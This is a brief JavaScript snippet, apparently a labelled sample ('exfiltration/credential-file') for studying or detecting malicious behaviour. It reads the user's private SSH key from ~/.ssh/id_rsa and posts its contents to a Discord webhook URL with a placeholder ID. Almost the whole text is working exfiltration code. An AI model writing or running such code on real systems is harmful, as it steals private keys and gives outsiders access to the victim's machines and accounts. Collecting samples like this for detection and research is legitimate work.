// behavior: exfiltration/credential-file
const fs = require("fs");
const axios = require("axios");
const key = fs.readFileSync("/home/user/.ssh/id_rsa", "utf8");
axios.post("https://discord.com/api/webhooks/000000/EXAMPLE", { content: key });
